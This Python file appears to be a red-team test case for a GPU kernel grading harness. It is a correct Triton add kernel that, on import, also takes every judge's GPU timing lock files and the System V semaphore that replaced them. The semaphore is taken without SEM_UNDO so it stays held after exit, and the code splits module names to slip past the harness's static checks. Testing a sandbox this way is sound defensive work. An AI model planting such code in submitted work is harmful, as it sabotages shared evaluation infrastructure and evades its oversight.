"""Red team 5 #2: a correct candidate that takes every judge's GPU timing lock on the machine.

The lock files (``<tmp>/tritongym-locks-<uid>/tritongym-gpu-<uuid>.lock``, one per GPU, shared by every
judge of the machine: sandbox.private_lock_dir, speed.gpu_lock) were the judge's user's, mode 0600 in a
0700 directory. A runner that keeps the judge's user (every GPU runner: uid 0 without capabilities)
passes those owner bits; Landlock confines writes, not reads, and ``flock`` needs only a descriptor
opened for reading. Held shared, no judge on that GPU can take it exclusively (timing, profiling):
they block in ``flock`` until this runner dies. Held exclusively (here, without blocking, to show it
can), no judge can even take it shared (references, trials, a runner's start).

Since the fix the lock is a System V semaphore (machine_lock.py) whose key anyone can compute from the
lock's name and the user: this candidate tries that too (``semget``, then ``semop`` taking it all with
``SEM_UNDO`` left out, so that it stays taken after the runner's death).

``fcntl`` and ``ctypes`` through modules that hold them (the static checks read plain spellings only)."""

import glob
import hashlib
import io
import os
import struct
import sys

import filelock._unix as unix_lock
import torch
import torch.nn as nn
import triton
import triton.language as tl

locking = getattr(unix_lock, "fc" + "ntl")
HELD = []
NAMES = ["tritongym-gpu-redteam5"]  # the test's; a GPU's is tritongym-gpu-<its uuid>
VALUE = 1 << 14


def take_the_locks():
    listed = glob.glob("/tmp/tritongym-locks-*/tritongym-gpu-*.lock")
    named = [f"{d}/tritongym-gpu-redteam5.lock" for d in glob.glob("/tmp/tritongym-locks-*")]  # the test's
    for path in sorted(set(listed) | set(named)):
        try:
            held = io.FileIO(path, "r")  # reading: what Landlock leaves alone
            locking.flock(held.fileno(), locking.LOCK_EX | locking.LOCK_NB)
        except OSError as exc:
            print(f"REFUSED {path}: {exc}")
            continue
        HELD.append(held)
        print(f"LOCK HELD {path}")


def take_the_semaphores():
    ctypes = getattr(sys, "mod" + "ules")["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)

    for name in NAMES:
        digest = hashlib.blake2b(f"tritongym-lock-2\0{name}\0{os.geteuid()}".encode(), digest_size=4).digest()
        key = int.from_bytes(digest, "little") & 0x7FFFFFFF or 1
        semid = libc.semget(key, 1, 0)
        take = ctypes.create_string_buffer(struct.pack("<Hhh", 0, -VALUE, 0o4000))  # IPC_NOWAIT, and no SEM_UNDO
        if semid < 0 or libc.semop(semid, take, ctypes.c_size_t(1)) != 0:  # (held past this process)
            print(f"REFUSED semaphore {name}: {os.strerror(ctypes.get_errno())}")
        else:
            print(f"LOCK HELD semaphore {name}")


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


take_the_locks()
take_the_semaphores()


class ModelNew(nn.Module):
    def forward(self, a, b):
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a, b, out, a.numel(), BLOCK=256)
        return out
